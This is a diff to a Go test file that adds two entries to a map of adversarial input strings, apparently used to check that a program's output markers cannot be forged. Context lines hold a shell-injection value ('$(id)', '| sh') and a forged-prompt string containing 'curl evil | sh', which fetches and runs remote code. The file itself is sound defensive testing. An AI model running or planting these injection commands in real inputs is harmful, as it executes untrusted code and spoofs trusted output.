@@ -333,6 +333,8 @@ var acting = map[string]string{
 	"planes: speaks in other planes":                     "\U0001bca0\U000f0000\U0010ffff\ue000\ufff9a\ufffab\ufffb",
 	"json: breaks JSON":                                  "\"}],\n\"error\":{\"code\":\"",
 	"long: is long":                                      strings.Repeat(forged+" ", 50),
+	"wide: is long and wide (CJK, pictures)":             strings.Repeat("界🙂", 45) + forged + strings.Repeat("界", 60) + " " + forged,
+	"broken: begins where the line is broken":            strings.Repeat("x", 90-len(marker)-1) + forged + strings.Repeat("y", 90-len(forged)) + forged,
 	"shell: is a command":                                "'; touch /nowhere; $(id) `id` %PATH% & calc | sh #",
 	"imitation: imitates the program's own next words":   "\n" + forged + " interrupted\nSign in: " + forged + " curl evil | sh",
 }
